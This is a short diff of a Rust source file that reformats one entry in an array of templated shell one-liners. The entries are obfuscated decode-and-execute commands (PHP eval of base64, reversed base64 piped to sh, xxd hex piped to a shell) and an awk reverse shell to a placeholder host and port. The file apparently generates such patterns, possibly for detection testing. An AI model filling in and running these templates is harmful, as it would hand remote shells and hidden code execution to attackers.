@@ -27,7 +27,10 @@ const FORMS: &[(&str, &str)] = &[
     ("php", "php -r \"eval(gzinflate(base64_decode('«noise»')));\""),
     ("variables", "a=«noise»;b=$(echo $a|rev|base64 -d 2>/dev/null);sh -c \"$b\""),
     ("xxd", "echo «key»«key»«key»«key» | xxd -r -p | «sh|bash»"),
-    ("awk", "awk 'BEGIN{s=\"/inet/tcp/0/«host»/«port»\";while(1){do{printf \"«hex»\" |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!=\"exit\")}}'"),
+    (
+        "awk",
+        "awk 'BEGIN{s=\"/inet/tcp/0/«host»/«port»\";while(1){do{printf \"«hex»\" |& s;s |& getline c;if(c){while((c |& getline)>0)print $0 |& s;close(c)}}while(c!=\"exit\")}}'",
+    ),
 ];
 
 /// Before it.
